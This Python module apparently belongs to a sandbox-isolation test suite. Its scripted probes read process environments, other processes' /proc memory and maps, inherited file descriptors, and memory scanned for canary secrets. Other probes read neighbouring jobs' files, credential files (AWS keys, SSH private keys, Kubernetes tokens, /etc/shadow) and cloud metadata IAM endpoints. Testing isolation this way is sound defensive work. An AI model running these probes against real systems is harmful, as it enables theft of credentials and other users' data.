"""Attacks that read: the worker's secrets, other jobs, and what the machine tells of itself."""

from attack import Attack

_METADATA = """
import socket
for family, address in (
    (socket.AF_INET, ("169.254.169.254", 80)),
    (socket.AF_INET, ("169.254.170.2", 80)),
    (socket.AF_INET6, ("fd00:ec2::254", 80)),
):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as asking:
            asking.settimeout(2)
            asking.connect(address)
            asking.sendall(b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\\r\\n\\r\\n")
            got.append(f"{address}: {asking.recv(1000)!r}"[:200])
    except OSError as error:
        tried.append(f"{address[0]}: {error}")
"""

ATTACKS = (
    Attack(
        27,
        "read the environment that the process was started with",
        (
            """
look("environment", read, "/proc/self/environ")
look("variables", lambda: dict(os.environ))
look("after deletion", lambda: ctypes.string_at(ctypes.c_char_p.in_dll(_libc, "environ"), 8))
""",
        ),
        quick=True,
    ),
    Attack(
        28,
        "read other processes through /proc: environment, memory, maps, root",
        (
            """
own = {str(os.getpid()), "self", "thread-self"}
pids = {str(KNOWN["worker"]), str(KNOWN["parent"]), str(os.getppid()), *map(str, range(1, 100))}
try: pids |= {name for name in os.listdir("/proc") if name.isdigit()}
except OSError as error: tried.append(f"/proc: {error}")
for pid in sorted(pids - own):
    for name in ("environ", "maps", "mem", "cmdline"):
        path = f"/proc/{pid}/{name}"
        try: file = open(path, "rb")
        except OSError as error: tried.append(f"{path}: {error}")
        else:
            with file:
                try: print(path, file.read(8192))
                except OSError: pass
            if name in ("maps", "mem"): got.append(path)
    for way in ("root", "cwd"):
        try: print(os.listdir(f"/proc/{pid}/{way}/")); got.append(f"/proc/{pid}/{way}")
        except OSError as error: tried.append(f"{way} of {pid}: {error}")
attempt("memory of pid 1", read, "/proc/1/mem") if os.getpid() != 1 else None
""",
        ),
    ),
    Attack(
        29,
        "use descriptors that were left open",
        (
            """
import socket, stat
sockets = 0
for fd in range(3, 1024):
    try: mode = os.fstat(fd).st_mode
    except OSError: continue
    tried.append(f"{fd}: {stat.filemode(mode)}")
    if stat.S_ISDIR(mode):
        attempt(f"folder {fd}", os.listdir, fd)
        attempt(f"above {fd}", os.open, "..", os.O_RDONLY, dir_fd=fd)
    if stat.S_ISREG(mode) or stat.S_ISBLK(mode):
        got.append(f"a file on {fd}")
        look(f"file {fd}", os.pread, fd, 4096, 0)
    sockets += stat.S_ISSOCK(mode)
if sockets > 1: got.append(f"{sockets} sockets")
tried.append(f"{sockets} sockets")
""",
        ),
    ),
    Attack(
        30,
        "search the memory that was inherited for secrets",
        (
            """
import gc, re
secret = re.compile(rb"canary" rb"-[0-9a-f]{16}")
found = set()
for thing in gc.get_objects():
    values = thing.values() if isinstance(thing, dict) else thing if isinstance(thing, (list, tuple, set)) else ()
    try:
        for value in list(values)[:1000]:
            if isinstance(value, str): value = value.encode("utf-8", "ignore")
            if isinstance(value, bytes): found.update(secret.findall(value))
    except Exception: pass
# Pages that are not there make write fail instead of the process.
reading, writing = os.pipe()
near = [id(got), id(sys.modules), id(os.environ), ctypes.addressof(ctypes.c_char_p.in_dll(_libc, "environ"))]
stack = ctypes.c_void_p.in_dll(_libc, "environ").value
pages = 0
for start in [*near, stack or near[0]]:
    for page in range((start >> 12) - 4000, (start >> 12) + 4000):
        if _libc.write(writing, ctypes.c_void_p(page << 12), 4096) == 4096:
            pages += 1
            found.update(secret.findall(os.read(reading, 4096)))
print(sorted(found - {KNOWN["own"].encode()}))
tried.append(f"{pages} pages")
""",
        ),
        quick=True,
    ),
    Attack(
        31,
        "see another job: its files, processes, messages and ports",
        (
            """
import socket
above = [os.path.dirname(IN), os.path.dirname(os.path.dirname(IN)), KNOWN["slots"], "/job"]
for folder in dict.fromkeys(above):
    if folder == "/": continue
    for path, folders, files in os.walk(folder):
        if path.startswith((IN, OUT)): continue
        for name in files[:50]: look(f"{path}/{name}", read, f"{path}/{name}")
for path in (KNOWN["neighbour"], "/tmp/neighbour"):
    look(path, read, path)
for name in os.listdir(TMP): look(name, read, f"{TMP}/{name}") if os.path.isfile(f"{TMP}/{name}") else None
try: os.listdir(KNOWN["slots"]); got.append("the folder of all slots")
except OSError as error: tried.append(f"slots: {error}")
for address, family in (("\\0neighbour", socket.AF_UNIX), (("127.0.0.1", 47011), socket.AF_INET)):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as asking:
            asking.settimeout(2)
            asking.connect(address)
            got.append(f"{address!r}: {asking.recv(100)!r}")
    except OSError as error: tried.append(f"{address!r}: {error}")
attempt("its shared memory", kernel, "shmget", 47011, 4096, 0)
""",
        ),
        quick=True,
    ),
    Attack(
        32,
        "read the home of the worker, credentials of clouds, tokens of services",
        (
            """
home = KNOWN["home"]
for path in (
    f"{home}/.aws/credentials", f"{home}/secret.txt", KNOWN["secret"], "/root/.aws/credentials", "/root/.ssh/id_rsa",
    "/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets/token",
    os.path.expanduser("~/.aws/credentials"),
    "/root/.config/gcloud/application_default_credentials.json", "/root/.bash_history",
):
    look(path, read, path)
for folder in (home, "/root", "/home", "/work", "/run", "/var"):
    for path, folders, files in os.walk(folder):
        if "python" in path or ".venv" in path or "consumers" in path: continue
        for name in files[:20]:
            look(f"{path}/{name}", read, f"{path}/{name}")
        if len(tried) > 300: break
""",
        ),
    ),
    Attack(33, "ask the metadata services of clouds for credentials", (_METADATA,)),
    Attack(
        34,
        "learn about the machine: accounts, mounts, control groups, its name",
        (
            """
for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/machine-id", "/etc/hosts", "/etc/resolv.conf",
             "/proc/self/mountinfo", "/proc/self/cgroup", "/proc/1/mountinfo", "/proc/self/mounts", "/proc/version",
             "/sys/fs/cgroup/cgroup.controllers", "/sys/class/net"):
    attempt(path, os.listdir if path.endswith("net") else read, path)
if os.uname().nodename == KNOWN["host"]: got.append(f"the name of the machine")
tried.append(str(os.uname().nodename))
""",
        ),
    ),
)
